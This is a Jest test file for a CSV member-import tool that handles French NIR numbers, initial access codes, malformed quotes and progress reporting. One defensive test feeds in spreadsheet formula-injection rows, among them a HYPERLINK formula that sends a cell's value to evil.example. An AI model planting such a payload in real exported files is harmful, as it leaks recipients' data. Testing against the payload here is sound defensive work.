import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { DynamoMemberRepository } from '../../lambdas/adapters/dynamo/member-repository.ts';
import type { Table } from '../../lambdas/adapters/dynamo/table.ts';
import { LocalHmacKey } from '../../lambdas/adapters/keys/local-key-files.ts';
import { nirWindows, weakCodeReason } from '../../lambdas/domain/code-blocklist.ts';
import { CodeHasher, OWASP_MINIMUM } from '../../lambdas/domain/code-hashing.ts';
import { OperatorInputError } from '../../lambdas/domain/errors.ts';
import { nirLookupKey, parseNir } from '../../lambdas/domain/nir.ts';
import { importMembersFile } from '../../lambdas/ops/import-members.ts';
import { uniqueNir } from '../support/members.ts';
import { prepareTestEnvironment } from '../support/test-environment.ts';

let table: Table;
beforeAll(async () => {
  ({ table } = await prepareTestEnvironment());
});

const HEADER = 'nir,lastName,firstName,email,addressLine1,addressLine2,postalCode,city,country,clientId,initialCode';

async function csv(lines: string[]): Promise<string> {
  const path = join(await mkdtemp(join(tmpdir(), 'mpa-import-')), 'members.csv');
  await writeFile(path, `${lines.join('\n')}\n`);
  return path;
}

function deps() {
  return {
    members: new DynamoMemberRepository(table),
    nirHasher: new LocalHmacKey(Buffer.alloc(32, 3)),
    codeHasher: new CodeHasher(new LocalHmacKey(Buffer.alloc(32, 4)), OWASP_MINIMUM),
    clock: { now: () => Date.now() },
    initialCodeValidDays: 365,
  };
}

/** `target` with calls to one of its methods counted (a class with private fields: methods stay bound to it). */
function counted<T extends object>(target: T, method: keyof T, count: () => void): T {
  return new Proxy(target, {
    get(object, property) {
      const value = Reflect.get(object, property) as unknown;
      if (typeof value !== 'function') return value;
      return (...args: unknown[]) => {
        if (property === method) count();
        return (value as (...a: unknown[]) => unknown).apply(object, args);
      };
    },
  });
}

function collector() {
  const rejected: Array<[number, string]> = [];
  return {
    rejected,
    out: { rejected: (line: number, reason: string) => rejected.push([line, reason]), progress: () => undefined },
  };
}

describe('import-members', () => {
  it('imports valid rows, reports each bad row with its line and reason, and keeps going', async () => {
    const path = await csv([
      HEADER,
      '295109912611193,Dubois,Claire,claire@example.org,,,,,,ACME,469135',
      '295109912611199,Bad,Key,x@example.org,,,,,,,469135',
      '253072A07300443,Santoni,Marie,,"3, cours Napoléon",,20000,Ajaccio,,,583927',
      '253072B07300470,NoAddress,Paul,,,,,,,,583927',
      '184057512345625,Martin,Jean,jean@example.org,,,,,,,12345',
      '"1 84 05 75 123 456 25",Martin,Jean,not-an-email,,,,,,,469135',
      'too,few,fields',
    ]);
    const { rejected, out } = collector();
    const report = await importMembersFile(path, deps(), out);
    expect(report).toEqual({ imported: 2, updated: 0, unchanged: 0, rejected: 5 });
    expect(rejected.map(([line]) => line)).toEqual(expect.arrayContaining([3, 5, 6, 7, 8]));
    expect(rejected.find(([l]) => l === 3)?.[1]).toMatch(/NIR/);
    expect(rejected.find(([l]) => l === 5)?.[1]).toMatch(/address/);
    expect(rejected.find(([l]) => l === 6)?.[1]).toMatch(/6 digits/);
    expect(rejected.find(([l]) => l === 7)?.[1]).toMatch(/email/);
    // Reasons never echo the NIR.
    expect(rejected.map(([, r]) => r).join(' ')).not.toMatch(/\d{13}/);

    const d = deps();
    const corsican = await d.members.get(await nirLookupKey(d.nirHasher, parseNir('253072A07300443')));
    expect(corsican?.address).toEqual({
      line1: '3, cours Napoléon',
      postalCode: '20000',
      city: 'Ajaccio',
      country: 'FR',
    });
    expect(corsican?.maskedNir).toBe('2 53 ** ** *** *** 43');
  });

  it('is safe to run twice and never undoes a personal code', async () => {
    const path = await csv([HEADER, '295109912611193,Dubois,Claire,claire@example.org,,,,,,ACME,469135']);
    const d = deps();
    await importMembersFile(path, d, collector().out);
    const key = await nirLookupKey(d.nirHasher, parseNir('295109912611193'));
    const member = (await d.members.get(key))!;
    await d.members.setPersonalCode(key, {
      hash: 'personal',
      expectedCodeVersion: member.codeVersion,
      now: Date.now(),
    });
    // The insurer's next file, with a new first name: the profile changes, the personal code stays.
    const next = await csv([HEADER, '295109912611193,Dubois,Claire-Marie,claire@example.org,,,,,,ACME,469135']);
    expect(await importMembersFile(next, d, collector().out)).toEqual({
      imported: 0,
      updated: 1,
      unchanged: 0,
      rejected: 0,
    });
    const after = (await d.members.get(key))!;
    expect(after.personalCodeHash).toBe('personal');
    expect(after.initialCodeHash).toBeUndefined();
    expect(after.memberId).toBe(member.memberId);
  });

  it('a stray quote no longer drops rows silently: the file is refused whole, the line named', async () => {
    const nirs = Array.from({ length: 6 }, () => uniqueNir());
    const rows = nirs.map((nir, i) => `${nir},Nom${i},P,p${i}@example.org,,,,,,,469135`);
    rows[1] = rows[1]!.replace('Nom1', 'No"m1');
    const { rejected, out } = collector();
    await expect(importMembersFile(await csv([HEADER, ...rows]), deps(), out)).rejects.toThrow(
      /malformed CSV.*nothing was imported/,
    );
    expect(rejected).toEqual([[3, expect.stringContaining('quote')]]);
    const d = deps();
    for (const nir of nirs) expect(await d.members.get(await nirLookupKey(d.nirHasher, nir))).toBeUndefined();
  });

  it('an unclosed quote is reported at its line, and no row after it is lost silently', async () => {
    const { rejected, out } = collector();
    const path = await csv([
      HEADER,
      `${uniqueNir()},"Dubois,Claire,c@example.org,,,,,,,469135`,
      `${uniqueNir()},Martin,Jean,j@example.org,,,,,,,469135`,
    ]);
    await expect(importMembersFile(path, deps(), out)).rejects.toThrow(/nothing was imported/);
    expect(rejected).toEqual([[2, expect.stringContaining('never closed')]]);
  });

  it('refuses a name or an address that a spreadsheet would read as a formula (the print provider opens the letters)', async () => {
    const { rejected, out } = collector();
    const report = await importMembersFile(
      await csv([
        HEADER,
        `${uniqueNir()},"=HYPERLINK(""https://evil.example/?x=""&I2,""Cliquez"")",Claire,,1 rue,,75001,Paris,,,469135`,
        `${uniqueNir()},Santoni,@Marie,,1 rue,,75001,Paris,,,469135`,
        `${uniqueNir()},Martin,Jean,,+33 rue,,75001,Paris,,,469135`,
        `${uniqueNir()},Petit,Anne,,1 rue,-,75001,Paris,,,469135`,
      ]),
      deps(),
      out,
    );
    expect(report).toEqual({ imported: 0, updated: 0, unchanged: 0, rejected: 4 });
    expect(rejected.map(([line, reason]) => [line, /formula/.test(reason)])).toEqual([
      [2, true],
      [3, true],
      [4, true],
      [5, true],
    ]);
  });

  it("refuses a weak initial code, the NIR's own digits included: it is as guessable as a weak personal code", async () => {
    const { rejected, out } = collector();
    const nir = uniqueNir();
    const window = nirWindows(nir).find((w) => weakCodeReason(w as never, undefined) === undefined)!;
    const report = await importMembersFile(
      await csv([
        HEADER,
        `${uniqueNir()},Dubois,Claire,c@example.org,,,,,,,123456`,
        `${nir},Martin,Jean,j@example.org,,,,,,,${window}`,
      ]),
      deps(),
      out,
    );
    expect(report.rejected).toBe(2);
    expect(rejected.map(([, reason]) => reason)).toEqual([
      expect.stringContaining('RUN'),
      expect.stringContaining('FROM_NIR'),
    ]);
  });

  it('an initial code works for the configured days after its import, and no longer', async () => {
    const d = { ...deps(), initialCodeValidDays: 10 };
    const nir = uniqueNir();
    await importMembersFile(await csv([HEADER, `${nir},Durand,Paul,p@example.org,,,,,,,469135`]), d, collector().out);
    const member = (await d.members.get(await nirLookupKey(d.nirHasher, nir)))!;
    const { liveCodes } = await import('../../lambdas/domain/member.ts');
    expect(liveCodes(member, Date.now() + 9 * 86_400_000).map((c) => c.kind)).toEqual(['INITIAL']);
    expect(liveCodes(member, Date.now() + 11 * 86_400_000)).toEqual([]);
  });

  it('refuses a file without the expected header', async () => {
    await expect(importMembersFile(await csv(['nir,name', '1,2']), deps(), collector().out)).rejects.toThrow(
      OperatorInputError,
    );
  });

  it('streams a large file with progress', async () => {
    const rows = [HEADER];
    const { nirKey } = await import('../../lambdas/domain/nir.ts');
    for (let i = 0; i < 510; i++) {
      const body = `1990175${String(i).padStart(6, '0')}`;
      rows.push(`${body}${String(nirKey(body)).padStart(2, '0')},N${i},P,p${i}@example.org,,,,,,BIG,469135`);
    }
    const progress: Array<{ done: number; total: number; elapsedMs: number }> = [];
    const d = deps();
    const path = await csv(rows);
    const report = await importMembersFile(path, d, { rejected: () => undefined, progress: (p) => progress.push(p) });
    expect(report.imported + report.updated).toBe(510);
    // At least every 2 seconds, with the total known from the start (for the rate and the time left).
    expect(progress.length).toBeGreaterThanOrEqual(1);
    for (const p of progress) expect(p.total).toBe(510);
    const gaps = progress.map((p, i) => p.elapsedMs - (progress[i - 1]?.elapsedMs ?? 0));
    expect(Math.max(...gaps)).toBeLessThan(3000);

    // The same file again: every row unchanged, with no write and no argon2 derivation.
    let hashes = 0;
    let writes = 0;
    const counting = {
      ...d,
      codeHasher: counted(d.codeHasher, 'hashCode', () => hashes++),
      members: counted(d.members, 'upsertProfile', () => writes++),
    };
    expect(await importMembersFile(path, counting, { rejected: () => undefined, progress: () => undefined })).toEqual({
      imported: 0,
      updated: 0,
      unchanged: 510,
      rejected: 0,
    });
    expect({ hashes, writes }).toEqual({ hashes: 0, writes: 0 });
  });
});
